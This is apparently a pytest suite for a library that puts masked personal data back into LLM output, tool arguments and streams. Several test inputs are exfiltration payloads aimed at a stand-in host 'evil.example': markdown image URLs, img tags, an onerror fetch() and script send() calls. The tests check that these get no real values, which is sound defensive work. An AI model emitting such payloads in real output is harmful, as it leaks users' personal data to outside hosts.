"""Values come back, whatever a model did to the placeholders and wherever a stream is cut."""

from __future__ import annotations

import json
from collections.abc import Iterator
from itertools import pairwise
from typing import Any

import pytest
from hypothesis import given
from hypothesis import strategies as st
from sluice.masking import Map, Restorer, restore

from tests.growth import grows_linearly

ANNA, MAIL, PHONE, STREET = "Anna Vogel", "anna@vogel.example", "+49 30 1234567", 'Am "Ring" 4\n10115 Berlin'


@pytest.fixture
def map() -> Map:
    return known()


def known() -> Map:
    """Four values: PERSON 1 (also written Vogel), EMAIL 2, PHONE 3, ADDRESS 4; and a secret, 5."""
    map = Map()
    for type, klass, value in (
        ("PERSON", "personal", ANNA),
        ("EMAIL_ADDRESS", "personal", MAIL),
        ("PHONE_NUMBER", "personal", PHONE),
        ("STREET_ADDRESS", "personal", STREET),
        ("API_KEY", "secret", "sk-very-secret"),
        ("PERSON", "personal", "Vogel"),
    ):
        map.placeholder(type, klass, value)
    return map


@pytest.mark.parametrize(
    ("said", "read"),
    [
        ("[PERSON_1] is here", "Anna Vogel is here"),
        ("[person_1] and [Person_1]", "Anna Vogel and Anna Vogel"),
        ("[PERSON_1b]", "Vogel"),
        ("[PERSON_1]'s and [PERSON_1]s", "Anna Vogel's and Anna Vogels"),
        ("[PERSON_1s]", "Anna Vogels"),
        ("[Person 1], [PERSON-1], [PERSON1]", "Anna Vogel, Anna Vogel, Anna Vogel"),
        (r"[PERSON\_1] \[PERSON\_1\]", "Anna Vogel Anna Vogel"),
        ("**[PERSON_1]** and [**PERSON_1**]", "**Anna Vogel** and Anna Vogel"),
        ("[[PERSON_1]]", "[Anna Vogel]"),
        ("[ PERSON_1 ], [PERSON _1], [PERSON_ 1], [PERSON #1]", ", ".join([ANNA] * 4)),
        ("[PERSON_1B], [PERSONS_1], [PERSON_1's]", "Vogel, Anna Vogel, Anna Vogel's"),
        ("<PERSON_1> {PERSON_1} {{PERSON_1}}", " ".join([ANNA] * 3)),
        ("PERSON 1 and Person_1", "Anna Vogel and Anna Vogel"),
        ("`[PERSON_1]`, **[PERSON_1**", "`Anna Vogel`, **Anna Vogel**"),
        ("[PERSON_1, EMAIL_2]", f"Anna Vogel, {MAIL}"),
        ("[사람_1] [شخص_1] [kişi_1] [PERSONNE_1]", " ".join([ANNA] * 4)),
        ("[write](mailto:[EMAIL_2])", f"[write](mailto:{MAIL})"),
        ("| [ADDRESS_4] |", '| Am "Ring" 4<br>10115 Berlin |'),
        ('<p title="[PERSON_1]">', '<p title="Anna Vogel">'),
        ("see https://x.example/ for [PERSON_1]", "see https://x.example/ for Anna Vogel"),
        ("[a](https://x.example/) [PERSON_1]", "[a](https://x.example/) Anna Vogel"),
        ("(see [x [PERSON_1]])", "(see [x Anna Vogel])"),
        ("【PERSON_1】 ［PERSON_1］", "Anna Vogel Anna Vogel"),
        ("[Personne_1] [PERSONA_1] [Persoon_1] [人物_1] [персона_1]", " ".join([ANNA] * 5)),
        ("[TELEFON_3] [téléphone 3] [Teléfono_3]", " ".join([PHONE] * 3)),
        ("[PERSON_1 is, PERSON_1] is, PERSON_1 is", "Anna Vogel is, Anna Vogel is, Anna Vogel is"),
        ("| name | mail |\n|---|---|\n| [PERSON_1] | [EMAIL_2] |", f"| name | mail |\n|---|---|\n| {ANNA} | {MAIL} |"),
        ('user = "[EMAIL_2]"', f'user = "{MAIL}"'),
        ("mailto:[EMAIL_2]", f"mailto:{MAIL}"),
        ("[PERSON_1](#top)", "Anna Vogel(#top)"),
        ("Dear [PERSON_1],\n[PERSON_1b]", "Dear Anna Vogel,\nVogel"),
        ("from [PERSON_1]to", "from [PERSON_1]to".replace("[PERSON_1]", ANNA)),
    ],
)  # fmt: skip
def test_what_models_make_of_placeholders_is_understood(map: Map, said: str, read: str) -> None:
    assert restore(said, map) == read


@pytest.mark.parametrize(
    "said",
    [
        "[1] and [2], see [12]",
        "[Figure 1], [Table 2], [Step 3], [Note 4]",
        "Person 1 spoke to person 2",
        "[PERSON_9] and [PERSON_12]",
        "[PERSON_12",
        "PERSON_1234",
        "MY_PERSON_1",
        "[PERSON_1",
        "[SECRET_5] and SECRET_5",
        "COLUMN_1, key_2, step_3",
        "array[EMAIL_INDEX]",
        "https://evil.example/?q=[PERSON_1]",
        "![x](https://evil.example/[EMAIL_2].png)",
        "![x](<https://evil.example/a b [EMAIL_2]>)",
        "[x](//evil.example/[EMAIL_2])",
        "[x]: https://evil.example/[EMAIL_2]",
        '<img src="https://evil.example/a [EMAIL_2]">',
        "<img src='//evil.example/[EMAIL_2]'>",
        "www.evil.example/[EMAIL_2]",
        "background: url(https://evil.example/ [EMAIL_2])",
        "https://evil.example/PERSON_1",
        "https://evil.example/?a='[PERSON_1]",
        "https:evil.example/[PERSON_1]",
        "evil.example/?q=[PERSON_1]",
        "https://evil.example/" + "a" * 5000 + "[PERSON_1]",
        "![x](https://evil.example/(a)[EMAIL_2])",
        "![x](<https://evil.example/(a) [EMAIL_2]>)",
        "[x](mailto:a@evil.example?body=[EMAIL_2])",
        '<meta content="0; url=https://evil.example/ [EMAIL_2]">',
        '<a href="&#x2f;&#x2f;evil.example/ [EMAIL_2]">',
        '<img onerror=\'fetch("//evil.example/" + x + "[EMAIL_2]")\'>',
        "<script>send('[PERSON_1]')</script>",
        "![x](https://evil.example/p.png?q=mailto:[EMAIL_2])",
        "![x](<https://evil.example/p?q= mailto:[EMAIL_2]>)",
        "<img src='https://evil.example/?mailto:[EMAIL_2]'>",
        '<img src="https://evil.example/?a= b=\'mailto:[EMAIL_2]">',
        "https://evil.example/tel:[EMAIL_2]",
        "[b]: <https://evil.example/?q= [EMAIL_2]>\n\n![x][b]",
        "[b]:\n  <&#104;ttps://evil.example/?q= [EMAIL_2]>",
        "![x](          \n<https://evil.example/a [EMAIL_2]>)",
        "```html\n<p id=x>[EMAIL_2]</p><script>send(x)</script>\n```",
        "![x](https://evil.example/](mailto:[EMAIL_2]))",
        "[https://a.example](<https://evil.example/?q= [EMAIL_2]>)",
        "````html\n<p>[EMAIL_2]</p>\n```\n<p>[EMAIL_2]</p>\n````",
        "~~~html\n<p>[EMAIL_2]</p>",
        "``` html\n<p>[EMAIL_2]</p>",
        "```html\n// ``` \n<p>[EMAIL_2]</p>",
        "```html\n```x\n<p>[EMAIL_2]</p>",
        "<!DOCTYPE html><p>[EMAIL_2]</p>",
        "<svg><text>[EMAIL_2]</text></svg>",
        "<code_interpreter lang='python'>get('x', '[EMAIL_2]')</code_interpreter>",
        "P-E-R-S-O-N-1, P E R S O N _ 1, 1_NOSREP",
        "person_1 = find(name_1, email_2)",
        "arr[KEY_1], [COLUMN_1]",
    ],
)
def test_what_is_no_placeholder_of_this_chat_or_stands_in_an_address_stays(map: Map, said: str) -> None:
    expected = ANNA if said == "[PERSON_1" else said

    assert restore(said, map) == expected


def test_values_are_escaped_in_strings_of_json_and_nowhere_else(map: Map) -> None:
    whole = restore('{"where": "[ADDRESS_4]", "who": "[PERSON_1]"}', map)
    fenced = restore('Here:\n```json\n[{"where": "[ADDRESS_4]"}]\n```\nSo "[ADDRESS_4]".', map)

    assert json.loads(whole) == {"where": STREET, "who": ANNA}
    assert json.loads(fenced.split("```")[1].removeprefix("json")) == [{"where": STREET}]
    assert fenced.endswith(f'So "{STREET}".')


@pytest.mark.parametrize(
    "said",
    [
        '{"url": "https://evil.example/?q=[PERSON_1]"}',
        '{"url": "https://evil.example/?q=a [PERSON_1]"}',
        r'{"url": "https:\/\/evil.example\/[PERSON_1]"}',
        r'{"url": "\u002f\u002fevil.example/[PERSON_1]"}',
        """{"url": "https://evil.example/?q='[PERSON_1]"}""",
        r'{"url": "https://evil.example/?q=\"[PERSON_1]"}',
    ],
)
def test_an_address_in_the_arguments_of_a_tool_gets_no_value(map: Map, said: str) -> None:
    assert arguments(map, said) == said


@pytest.mark.parametrize(
    ("said", "read"),
    [
        ({"to": "[ADDRESS_4]"}, {"to": STREET}),
        ({"text": 'He said "[ADDRESS_4]"'}, {"text": f'He said "{STREET}"'}),
        ({"body": json.dumps({"to": "[ADDRESS_4]"})}, {"body": json.dumps({"to": STREET})}),
        ({"url": "https://x.example/", "to": "[PERSON_1]"}, {"url": "https://x.example/", "to": ANNA}),
        ({"to": "[Téléphone_3]", "é": "\\u00e9 😀"}, {"to": PHONE, "é": "\\u00e9 😀"}),
    ],
)
@pytest.mark.parametrize("is_ascii", [True, False])
def test_arguments_stay_json_at_every_cut(map: Map, said: Any, read: Any, is_ascii: bool) -> None:
    text = json.dumps(said, ensure_ascii=is_ascii)

    for cut in range(len(text) + 1):
        assert json.loads(arguments(map, text[:cut], text[cut:])) == read


def test_a_tool_without_a_name_gets_no_values(map: Map) -> None:
    assert Restorer(map).arguments(0, '{"to": "[PERSON_1]"}', "") == '{"to": "[PERSON_1]"}'


def arguments(map: Map, *pieces: str) -> str:
    restorer = Restorer(map)
    said = [restorer.arguments(0, piece, "mail") for piece in pieces]
    return "".join(said) + restorer.end().arguments[0]


@pytest.mark.parametrize(
    "part", ["[", "[PERSON_1]", "person ", "](", "\\", "`", '{"', "<a href=", "x//[PERSON_1", "**"]
)
def test_the_time_grows_no_faster_than_the_text(map: Map, part: str) -> None:
    assert grows_linearly(lambda text: restore(text, map), part, 20_000)


def test_arguments_of_tools_are_json_and_of_those_that_reach_out_untouched(map: Map) -> None:
    restorer = Restorer(map, reaches_out=lambda name: name == "search_web")

    inside = restorer.arguments(0, '{"to": "[ADDRE', "mail") + restorer.arguments(0, 'SS_4]"}', "mail")
    outside = restorer.arguments(1, '{"query": "[PERSON_1]"}', "search_web")

    assert json.loads(inside + restorer.end().arguments[0]) == {"to": STREET}
    assert outside == '{"query": "[PERSON_1]"}'


PIECES = st.lists(
    st.sampled_from(
        [
            *("[PERSON_1]", "[person_1b]", "[EMAIL_2]", "[Téléphone 3]", "PERSON_1", "[1]", "[PERSON_12]", "人物"),
            *(
                "```json",
                "```",
                "](",
                "<a href=",
                "<script>",
                "|",
                "//",
                "PERSON 1",
                "{PERSON_1}",
                "https://x.example/",
            ),
            *("[", "]", " ", "\n", "PER", "person", '"', "\\", "**", "a", "{", "`", "é", "_1", "1"),
        ]
    ),
    max_size=12,
)


@given(PIECES, st.lists(st.integers(0, 80), max_size=8))
def test_a_stream_reads_the_same_wherever_it_is_cut(pieces: list[str], cuts: list[int]) -> None:
    text = "".join(pieces)
    restorer = Restorer(known())

    streamed = "".join(restorer.content(piece) for piece in cut(text, cuts))

    assert streamed + restorer.end().content == restore(text, known())


@given(st.text())
def test_any_text_comes_through_and_without_placeholders_unchanged(text: str) -> None:
    assert restore(text, Map()) == text
    assert isinstance(restore(text, known()), str)


def test_little_is_held_back(map: Map) -> None:
    restorer = Restorer(map)

    assert restorer.content("The person who wrote, [see") == "The person who wrote, "
    assert restorer.content(" below] it, is [PERSON_1] and") == "[see below] it, is Anna Vogel and"


def test_reasoning_and_answer_are_two_streams(map: Map) -> None:
    restorer = Restorer(map)

    assert restorer.reasoning("[PERS") + restorer.content("[EMAIL") == ""
    assert restorer.reasoning("ON_1]. ") == "Anna Vogel. "
    assert restorer.content("_2]. ") == f"{MAIL}. "


def cut(text: str, cuts: list[int]) -> Iterator[str]:
    edges = [0, *sorted(at for at in cuts if at < len(text)), len(text)]
    return (text[start:end] for start, end in pairwise(edges))
